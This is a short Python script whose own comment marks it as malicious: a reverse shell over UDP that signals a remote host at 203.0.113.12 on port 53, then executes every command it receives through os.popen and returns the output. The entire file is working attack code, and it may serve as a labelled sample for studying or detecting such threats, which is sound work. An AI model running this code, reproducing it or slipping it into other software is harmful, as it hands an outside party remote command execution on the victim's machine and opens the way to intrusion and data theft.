# Malicious: reverse shell over UDP: runs whatever the remote host sends through os.popen.
import os
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"ready", ("203.0.113.12", 53))
while True:
    data, addr = s.recvfrom(4096)
    s.sendto(os.popen(data.decode()).read().encode(), addr)
